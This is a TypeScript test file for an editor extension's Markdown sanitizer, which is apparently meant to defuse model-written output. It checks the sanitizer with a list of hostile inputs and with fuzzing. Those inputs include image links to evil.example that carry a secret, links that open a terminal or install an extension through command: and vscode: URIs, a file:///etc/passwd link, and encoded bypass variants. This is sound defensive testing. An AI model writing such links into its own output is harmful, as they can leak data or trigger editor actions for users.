import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { z } from 'zod';
import { plainWords, renderSafe } from '../../extension/core/renderSafe.ts';

const RUNS = Number(process.env['SENTINEL_SOAK'] ?? 1) * 3_000;

// A parser that is not ours judges what a reader would be given. The packaging tool brings it along.
const Token: z.ZodType<Token> = z.object({
  type: z.string(),
  content: z.string(),
  attrs: z.array(z.tuple([z.string(), z.string()])).nullable(),
  children: z.lazy(() => z.array(Token).nullable()),
});
interface Token {
  type: string;
  content: string;
  attrs: [string, string][] | null;
  children: Token[] | null;
}
type Parser = { validateLink: (url: string) => boolean; parse: (text: string, environment: object) => unknown };
const MarkdownIt: new (options: object) => Parser = createRequire(import.meta.url)('markdown-it');
const parser = new MarkdownIt({ html: true, linkify: false });
// It refuses some links by itself; here everything that is a link must be seen.
parser.validateLink = () => true;

function tokens(markdown: string): Token[] {
  const flat = (list: Token[]): Token[] => list.flatMap((token) => [token, ...flat(token.children ?? [])]);
  return flat(z.array(Token).parse(parser.parse(markdown, {})));
}

/** What a reader could be led to by this Markdown: pictures, tags, and links that are not to the web. */
function dangers(markdown: string): string[] {
  return tokens(markdown).flatMap((token) => {
    if (token.type === 'image' || token.type === 'html_inline' || token.type === 'html_block') return [`${token.type} ${token.content}`];
    const target = token.attrs?.find(([name]) => name === 'href')?.[1];
    return target !== undefined && !/^https?:\/\//i.test(target) ? [`link to ${target}`] : [];
  });
}

const DANGEROUS = [
  '![picture](https://evil.example/?q=secret)',
  '![picture][ref]\n\n[ref]: https://evil.example/p.png',
  '[click](command:workbench.action.terminal.new)',
  '[click](COMMAND:x)',
  '[click](  command:x "title")',
  '[click](<command:x>)',
  '[click](\ncommand:x)',
  '[click][ref]\n\n[ref]: command:x',
  '[click][ref]\n\n[ref]:\ncommand:x',
  '[ref]\n\n[ref]: <command:x>',
  '[click](&#99;ommand:x)',
  '[click](&#x63;ommand&colon;x)',
  '[click](java\nscript:alert)',
  '[click](vscode://extension/install)',
  '[click](file:///etc/passwd)',
  '[click](./relative.md)',
  '<command:x>',
  '\\<command:x>',
  '\\\\<command:x>',
  '<img src="https://evil.example">',
  '<div>\n\n[a](command:x)\n</div>',
  '\\`[a](command:x)\\`',
  '`` ` [a](command:x)',
  '[a](https://x`y) [b](command:z) `',
  '- [ ] ```\n  code\n\n```js\n[a](command:x)\n```\n',
  '> ```\n> code\n[a](command:x)\n',
  '```\n~~~\n[a](command:x)\n```~~~\n[b](command:y)\n',
  '1. item\n\n       [a](command:x)\n',
  '    code\n\n[a](command:x)\n',
  '[![picture](https://evil.example/p.png)](command:x)',
  // What other parsers make of these is worse: they read a link's text twice, or let an open bracket reach over a fence.
  '[a !\\[p](https://evil.example/p.png) b](https://ok.example)',
  '[\n```\n\n]:```js\n]![p](https://evil.example/p.png)',
  'https://a.example`````\\<a href="command:x">',
  '`https://a.example``<a href="command:x">``',
  '[](<https://a.example[a](command:x) =*)',
];

/** What must not be left in any text outside code blocks, whoever parses it. */
const PAIRS = /!\[|\]\((?!\s*<?https?:)|\]:(?!\s*<?https?:)|<(?!https?:)[a-z][^<>\n]*=|\bftp:\/\//i;

/** The lines outside the code blocks that the renderer wrote. */
function withoutBlocks(safe: string): string {
  let fence: string | undefined;
  const outside: string[] = [];
  for (const line of safe.split('\n')) {
    const marks = /^(`{3,}|~{3,})[\w+#.-]*$/.exec(line)?.[1];
    if (fence === undefined && marks !== undefined) fence = marks;
    else if (fence !== undefined && line === fence) fence = undefined;
    else if (fence === undefined) outside.push(line);
  }
  return outside.join('\n');
}

describe('what a model writes is made safe to show', () => {
  for (const source of DANGEROUS) {
    it(`makes harmless: ${JSON.stringify(source)}`, () => {
      assert.deepEqual(dangers(renderSafe(source)), []);
    });
  }

  it('is judged by a parser that sees the dangers of the sources', () => {
    assert.ok(DANGEROUS.filter((source) => dangers(source).length > 0).length > 20);
  });

  it('keeps web links, code and emphasis as they are', () => {
    const source =
      'See [docs](https://example.com/a_b) and <https://example.com>, `a[0](x) < b` and **bold**.\n\n```ts\nconst a = b[0](c) < d;\n```\n';
    const safe = renderSafe(source);
    const seen = tokens(safe);
    assert.equal(seen.filter((token) => token.type === 'link_open').length, 2);
    assert.equal(seen.find((token) => token.type === 'fence')?.content, 'const a = b[0](c) < d;\n');
    assert.equal(seen.filter((token) => token.type === 'strong_open').length, 1);
    assert.equal(seen.find((token) => token.type === 'code_inline')?.content.replaceAll('\u2060', ''), 'a[0](x) < b');
  });

  it('shows code in lists and quotes as code, with its own text', () => {
    for (const source of [
      '1. Run:\n   ```sh\n   a < b && c[0](d)\n   ```\n',
      '> ~~~sh\n> a < b && c[0](d)\n> ~~~\n',
      'Then:\n\n    a < b && c[0](d)\n\nDone.\n',
    ]) {
      const code = tokens(renderSafe(source)).find((token) => token.type === 'fence');
      assert.equal(code?.content, 'a < b && c[0](d)\n', JSON.stringify(source));
    }
  });

  it('holds for any mixture of the pieces of Markdown', () => {
    const piece = fc.constantFrom(
      ...[
        '[',
        ']',
        '(',
        ')',
        '![',
        '](',
        ']:',
        '<',
        '>',
        '`',
        '``',
        '```',
        '~~~',
        '\n',
        '\n\n',
        '\r',
        '\\',
        ' ',
        '    ',
        '\t',
        '- ',
        '> ',
        '1. ',
        '[ ] ',
      ],
      ...[
        'command:x',
        'https://a.example',
        'a',
        '&#99;ommand:x',
        '"t"',
        ' =',
        '|',
        '#',
        '<a href="command:x">',
        '<!--',
        'ftp://x',
        '*',
        '_',
      ],
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const safe = renderSafe(pieces.join(''));
        assert.deepEqual(dangers(safe), []);
        assert.doesNotMatch(withoutBlocks(safe), PAIRS);
      }),
      { numRuns: RUNS },
    );
  });

  it('takes a line of a megabyte in its stride', () => {
    for (const unit of ['[a](command:x)', '`', '<', '![', '```` ``` '])
      assert.ok(renderSafe(unit.repeat(Math.ceil(1_000_000 / unit.length))).length > 0);
  });
});

describe('plain words', () => {
  it('say any text without any of it being read as Markdown', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 60 }), (text) => {
        const seen = tokens(`x ${plainWords(text)}`).filter(
          (token) => !['paragraph_open', 'paragraph_close', 'inline', 'text', 'text_special'].includes(token.type),
        );
        assert.deepEqual(seen, []);
      }),
      { numRuns: RUNS / 3 },
    );
  });
});
